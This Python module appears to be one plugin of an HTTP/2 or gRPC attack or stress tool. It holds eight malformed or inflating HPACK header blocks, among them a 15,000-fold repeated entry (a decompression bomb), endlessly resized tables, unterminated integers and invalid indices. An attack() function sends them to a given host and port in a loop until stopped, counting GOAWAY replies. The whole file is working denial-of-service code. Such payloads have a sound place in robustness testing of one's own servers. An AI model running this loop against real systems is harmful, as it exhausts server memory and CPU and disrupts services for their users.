"""Small blocks of headers that are large when they are read (HPACK bombs), and malformed ones."""
import collections

import wire

NAME = "HPACK bombs"
ENTRY = wire.indexed_literal(b"a", b"b" * 120)
HEAD = wire.grpc_head()

CASES = {
    "one entry, fifteen thousand times": HEAD + ENTRY + b"\xbe" * 15_000,
    "an entry that is not there": HEAD + b"\xff\x80\x80\x80\x08",
    "a number without an end": HEAD + b"\xff" + b"\x80" * 200,
    "a table larger than was agreed": b"\x3f\xff\xff\xff\x07" + HEAD,
    "a table that changes size without end": b"\x20\x3f\xe1\x1f" * 3000 + HEAD,
    "a length beyond the block": HEAD + b"\x00\x7f\xff\xff\xff\x07a",
    "bad Huffman": HEAD + b"\x00\x81\xff\x81\xff",
    "index zero": HEAD + b"\x80",
}


def say(host, port, block, counts):
    s = wire.dial(host, port)
    if s is None:
        counts["not connected"] += 1
        return b""
    with s:
        try:
            s.sendall(wire.OPENING + wire.headers(1, block))
            s.sendall(wire.headers(3, HEAD))
        except OSError:
            pass
        return wire.answer(s, 0.3)


def attack(host, port, stop, log):
    log(f"{len(CASES)} kinds of HPACK bombs")
    counts = collections.Counter()
    while not stop.is_set():
        for block in CASES.values():
            answer = say(host, port, block, counts)
            for code in wire.goaways(answer):
                counts[f"goaway {code}"] += 1
            counts["said"] += 1
            if stop.is_set():
                break
    return dict(counts)
